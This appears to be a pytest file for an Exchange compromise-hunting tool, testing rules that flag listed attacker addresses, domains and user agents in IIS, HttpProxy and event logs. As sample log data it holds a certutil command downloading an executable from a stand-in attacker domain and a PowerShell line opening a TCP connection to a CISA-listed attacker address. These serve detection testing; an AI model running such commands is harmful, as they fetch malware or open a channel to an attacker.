"""Listed attacker addresses, domains and user agents in IIS and HttpProxy requests (EXH-WEB-IOC-NETWORK)."""

from __future__ import annotations

import contextlib
import json
import subprocess
import sys
from pathlib import Path

from exhunt.analyzers import HostContext, HuntOptions, registry
from exhunt.analyzers.web_indicators import network_indicators
from exhunt.evidence.base import EvidenceFile, FileRef
from exhunt.filehunt.indicators import host_names, load_indicators
from exhunt.model import ArtefactKind, Implies, Severity
from test_events_detect import POWERSHELL, SECURITY, SYSMON, W3WP, flat
from test_log_samples import (
    INSTALL,
    benign_iis,
    by_rule,
    evidence,
    httpproxy_log,
    httpproxy_row,
    iis_line,
    iis_log,
    write,
)

RULE = "EXH-WEB-IOC-NETWORK"
IIS = "C/inetpub/logs/LogFiles/W3SVC1/u_ex210304.log"
PROXY = "C/Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Owa/HttpProxy_2021030306-1.LOG"
SHIPPED_IP = "103.77.192.219"  # CISA AA21-062A, in the shipped list


def case_list(tmp: Path) -> Path:
    path = tmp / "case42.csv"
    path.write_text(
        "type,value,kind,label,source\n"
        "ip,198.51.100.7,other,operator box,case 42\n"
        "ip,192.0.2.0/24,other,their VPS range,case 42\n"
        "ip,2001:db8::dead,other,v6 box,case 42\n"
        "domain,evil.example,malware,dropper host,case 42\n"
        "user_agent,SweeperBot/1.0,tool,their scanner,case 42\n",
        encoding="utf-8",
    )
    return path


def hunt_iis(tmp: Path, lines: list[str], lists: tuple[str, ...]) -> list[dict[str, object]]:
    write(tmp, IIS, iis_log([*benign_iis(3), *lines]))
    analyzer = registry()["iis-log"]
    ctx = HostContext("EX01", INSTALL, HuntOptions(extra_indicator_paths=lists))
    result = analyzer.analyze(evidence(tmp, IIS, ArtefactKind.IIS), ctx)  # type: ignore[union-attr]
    return [
        {"line": f.evidence.line, **{k: f.detail(k) for k in ("indicator", "seen_in", "listed_in")}}
        for f in by_rule(result, RULE)
    ]


def get(ip: str = "10.0.0.50", ua: str = "Mozilla/5.0", **more: str) -> str:
    return iis_line(**{"c-ip": ip, "cs(User-Agent)": ua, "cs-uri-stem": "/owa/", **more})


def test_listed_addresses_domains_and_agents_are_found_where_the_request_holds_them(tmp_path: Path) -> None:
    lists = (str(case_list(tmp_path)),)
    found = hunt_iis(
        tmp_path,
        [
            get(ip="198.51.100.7"),  # 8 exact address
            get(ip="192.0.2.77"),  # 9 in the listed range
            get(ip="2001:DB8:0::DEAD"),  # 10 the same IPv6 address, written otherwise
            get(**{"cs-uri-query": "cmd=certutil+-urlcache+-f+http://cdn.evil.example/a.exe"}),  # 11 under the domain
            get(ua="Mozilla/5.0 (compatible; SweeperBot/1.0)"),  # 12 IIS writes spaces as +
            get(ip=SHIPPED_IP),  # 13 a shipped address
            get(**{"cs(Referer)": "https://evil.example/login"}),  # 14 referer
            # near misses: a longer address, a name that only ends alike, an agent not listed
            get(ip="198.51.100.77"),
            get(ip="192.0.3.1"),
            get(**{"cs-uri-query": "u=http://notevil.example/"}),
            get(ua="SweeperBot/2.0"),
        ],
        lists,
    )
    assert [f["line"] for f in found] == [8, 9, 10, 11, 12, 13, 14]
    assert found[0]["indicator"] == "198.51.100.7" and found[0]["seen_in"] == "client address: 198.51.100.7"
    assert found[1]["indicator"] == "192.0.2.0/24"
    assert str(found[0]["listed_in"]).endswith("case42.csv:2")
    assert found[3]["seen_in"] == "URI: cdn.evil.example"
    assert str(found[4]["seen_in"]).startswith("user agent: ")
    assert str(found[5]["listed_in"]).startswith("exhunt/data/indicators/cisa-aa21-062a.csv:")
    assert found[6]["seen_in"] == "referer: evil.example"


def test_shipped_user_agents_are_left_to_the_published_agent_rule(tmp_path: Path) -> None:
    # Googlebot is in CISA's list (spoofed by the attackers) and is also the real crawler: a GET
    # of OWA with it is no finding of this rule.
    googlebot = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html"
    assert hunt_iis(tmp_path, [get(ua=googlebot)], ()) == []


def test_forwarded_addresses_and_httpproxy_chains(tmp_path: Path) -> None:
    lists = (str(case_list(tmp_path)),)
    rows = [
        httpproxy_row(ClientIpAddress="10.1.1.1,198.51.100.7", UrlStem="/owa/"),  # behind a proxy
        httpproxy_row(ClientIpAddress="10.1.1.1", UrlHost="mail.evil.example", UrlStem="/owa/"),
        httpproxy_row(ClientIpAddress="10.1.1.1", UrlStem="/owa/"),
    ]
    write(tmp_path, PROXY, httpproxy_log(rows))
    ctx = HostContext("EX01", INSTALL, HuntOptions(extra_indicator_paths=lists))
    result = registry()["httpproxy-log"].analyze(evidence(tmp_path, PROXY, ArtefactKind.HTTPPROXY), ctx)  # type: ignore[union-attr]
    found = by_rule(result, RULE)
    assert [f.detail("seen_in") for f in found] == ["forwarded address: 198.51.100.7", "host: mail.evil.example"]
    assert found[0].source_ip == "10.1.1.1"
    assert (found[0].severity, found[0].implies) == (Severity.MEDIUM, Implies.SUSPICIOUS)


def test_values_that_cannot_be_matched_are_named_with_their_line(tmp_path: Path) -> None:
    bad = tmp_path / "bad.csv"
    bad.write_text(
        "type,value\nip,not-an-address\nip,10.0.0.0/4\nip,2001:db8::/32\ndomain,evil example\nuser_agent,ab\n"
        "ip,198.51.100.8\n",
        encoding="utf-8",
    )
    loaded = load_indicators((str(bad),))
    mine = sorted((p.line, p.message) for p in loaded.problems if p.origin == str(bad))
    assert [line for line, _ in mine] == [2, 3, 4, 5, 6]
    assert "not an IP address" in mine[0][1] and "too short" in mine[4][1]
    assert [i.value for i in loaded.network_entries if i.origin == str(bad)] == ["198.51.100.8"]
    assert "198.51.100.8" in network_indicators((str(bad),)).literals


def test_the_listed_values_make_lines_candidates_only_for_the_lists_given(tmp_path: Path) -> None:
    # Without the user's list its address is no candidate; with it, the same file finds it.
    line = get(ip="198.51.100.7")
    assert hunt_iis(tmp_path, [line], ()) == []
    assert len(hunt_iis(tmp_path, [line], (str(case_list(tmp_path)),))) == 1


def test_a_hunt_reports_the_users_address_end_to_end(tmp_path: Path) -> None:
    evidence_dir = tmp_path / "EX01"
    write(evidence_dir, IIS, iis_log([*benign_iis(3), get(ip="198.51.100.7", **{"cs-method": "POST"})]))
    out = tmp_path / "out.json"
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "exhunt",
            "hunt",
            str(evidence_dir),
            "--indicators",
            str(case_list(tmp_path)),
            "--json",
            str(out),
            "-q",
        ],
        capture_output=True,
        text=True,
        env={"PYTHONPATH": str(Path(__file__).parents[1] / "src"), "XDG_DATA_HOME": str(tmp_path / "xdg")},
        check=False,
    )
    assert done.returncode == 1, done.stderr
    host = json.loads(out.read_text())["hosts"][0]
    found = [f for f in host["findings"] if f["rule_id"] == RULE]
    assert len(found) == 1 and found[0]["details"]["indicator"] == "198.51.100.7"
    assert not [p for p in host["errors"] if "case42.csv" in json.dumps(p)]


def test_a_bad_line_of_a_list_is_reported_for_a_host_of_web_logs_alone(tmp_path: Path) -> None:
    # No files for the file hunt here: the list is still read (for the logs), so its problems count.
    evidence_dir = tmp_path / "EX01"
    write(evidence_dir, IIS, iis_log(benign_iis(3)))
    bad = tmp_path / "bad.csv"
    bad.write_text("type,value\nip,999.1.1.1\n", encoding="utf-8")
    out = tmp_path / "out.json"
    subprocess.run(
        [sys.executable, "-m", "exhunt", "hunt", str(evidence_dir), "--indicators", str(bad), "--json", str(out), "-q"],
        capture_output=True,
        env={"PYTHONPATH": str(Path(__file__).parents[1] / "src"), "XDG_DATA_HOME": str(tmp_path / "xdg")},
        check=False,
    )
    host = json.loads(out.read_text())["hosts"][0]
    problems = [p for p in host["errors"] if "bad.csv" in json.dumps(p)]
    assert len(problems) == 1 and "not an IP address" in json.dumps(problems[0])
    assert host["verdict"] != "clean"


# --- the same values in event logs ----------------------------------------------------------------

EVT_RULE = "EXH-EVT-IOC-NETWORK"


def event_hunt(tmp: Path, docs: list[dict[str, object]], lists: tuple[str, ...]) -> list[tuple[str | None, str | None]]:
    path = tmp / "export.jsonl"
    path.write_text("".join(json.dumps(d) + "\n" for d in docs), encoding="utf-8")
    file = EvidenceFile(FileRef(str(path)), "EX01/export.jsonl", ArtefactKind.EVENT_JSON, path.stat().st_size)
    result = registry()["events"].analyze(file, HostContext("EX01", None, HuntOptions(extra_indicator_paths=lists)))
    assert result.errors == []
    return [(f.detail("indicator"), f.detail("seen_in")) for f in by_rule(result, EVT_RULE)]


def test_command_lines_script_blocks_and_logons_naming_listed_values(tmp_path: Path) -> None:
    lists = (str(case_list(tmp_path)),)
    docs = [
        flat(
            SYSMON,
            1,
            1,
            Image="C:\\Windows\\System32\\certutil.exe",
            ParentCommandLine="w3wp.exe",
            CommandLine="certutil -urlcache -f http://CDN.Evil.Example/a.exe c:\\windows\\temp\\a.exe",
        ),
        flat(SECURITY, 4688, 2, NewProcessName="C:\\Windows\\System32\\ping.exe", CommandLine="ping -n 1 198.51.100.7"),
        flat(POWERSHELL, 4104, 3, ScriptBlockText=f"$c = New-Object Net.Sockets.TcpClient('{SHIPPED_IP}', 443)"),
        flat(SECURITY, 4648, 4, SubjectUserName="EX01$", ProcessName=W3WP, IpAddress="192.0.2.200"),
        # near misses: a longer address, a name that only ends alike, a listed address in an unread event
        flat(SECURITY, 4688, 5, NewProcessName="C:\\x.exe", CommandLine="ping 198.51.100.77 notevil.example"),
        flat(SECURITY, 4672, 6, IpAddress="198.51.100.7"),  # special privileges: not searched
    ]
    found = event_hunt(tmp_path, docs, lists)
    assert found == [
        ("evil.example", "CommandLine: cdn.evil.example"),
        ("198.51.100.7", "CommandLine: 198.51.100.7"),
        (SHIPPED_IP, f"ScriptBlockText: {SHIPPED_IP}"),
        ("192.0.2.0/24", "IpAddress: 192.0.2.200"),
    ]
    assert event_hunt(tmp_path, docs[1:2], ()) == []  # the user's address, without the user's list


def test_host_names_are_read_from_hostile_text_in_one_pass() -> None:
    # A script block of base64 or of dotted junk: the search for names must not retry each long
    # run of letters from every position (it took minutes on a 1 MB script block). Bounded by a
    # generous deadline on a child process, not timed.
    probe = (
        "from exhunt.filehunt.indicators import host_names\n"
        "for junk in ('a' * 2_000_000, 'a.' * 1_000_000, 'ab-' * 600_000, 'a-.' * 600_000):\n"
        "    assert host_names(junk) == [], junk[:9]\n"
        "print('ok')\n"
    )
    env = {"PYTHONPATH": str(Path(__file__).parents[1] / "src")}
    done = subprocess.run(
        [sys.executable, "-c", probe], capture_output=True, text=True, timeout=60, env=env, check=False
    )
    assert done.stdout.strip() == "ok", done.stderr
    text = "see http://CDN.evil.example/a, then evil.example. And ..x.example; notevil-.example"
    assert host_names(text.lower()) == ["cdn.evil.example", "evil.example"]


def test_the_terminal_names_the_entry_and_where_it_was_seen(tmp_path: Path) -> None:
    from exhunt.cli import main

    evidence_dir = tmp_path / "EX01"
    write(evidence_dir, IIS, iis_log([*benign_iis(3), get(**{"cs-uri-query": "u=http://cdn.evil.example/a"})]))
    out = tmp_path / "out.txt"
    with out.open("w", encoding="utf-8") as fh, contextlib.redirect_stdout(fh):
        main(["hunt", str(evidence_dir), "--indicators", str(case_list(tmp_path)), "--no-db", "-v"])
    text = "".join(out.read_text(encoding="utf-8").split())  # as wrapped to the width, run together
    assert "seen_in=URI:cdn.evil.example" in text and "listed_in=" in text and "case42.csv:5" in text
